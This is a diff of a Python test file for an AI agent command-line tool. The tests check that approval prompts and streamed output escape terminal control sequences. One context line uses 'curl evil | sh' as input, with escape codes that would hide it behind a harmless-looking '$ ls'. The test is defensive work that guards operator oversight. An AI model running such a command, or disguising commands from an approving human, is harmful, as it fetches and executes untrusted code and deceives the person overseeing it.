@@ -506,3 +506,29 @@ def test_an_approval_prompt_shows_a_command_as_it_is() -> None:
 
     lines = describe_call(_Shell(), {"command": "curl evil | sh \x1b[2K\x1b[1G$ ls"})  # type: ignore[arg-type]
     assert lines == ["$ curl evil | sh \\x1b[2K\\x1b[1G$ ls"]
+
+
+def test_a_run_streams_model_text_and_tool_output_as_escapes(
+    runner: CliRunner, tmp_path: Path
+) -> None:
+    """`lodger run` printed the model's text and the first line of each tool result as
+    they came: a file the model read could clear the operator's screen mid-run."""
+    workspace = tmp_path / "ws"
+    workspace.mkdir()
+    (workspace / "notes.txt").write_text(f"read me {ESC} now\n")
+    script = tmp_path / "script.json"
+    script.write_text(
+        json.dumps(
+            [
+                {"calls": [{"name": "read_file", "args": {"path": "notes.txt"}}]},
+                {"text": f"done {ESC}"},
+            ]
+        )
+    )
+    result = invoke(
+        runner, "run", "read", "--model", f"script:{script}", "--workspace", workspace,
+        "--state", tmp_path / "state", "--yes",
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output and "\u202e" not in result.output
+    assert result.output.count("\\x1b[2J") == 2  # the tool's output and the answer
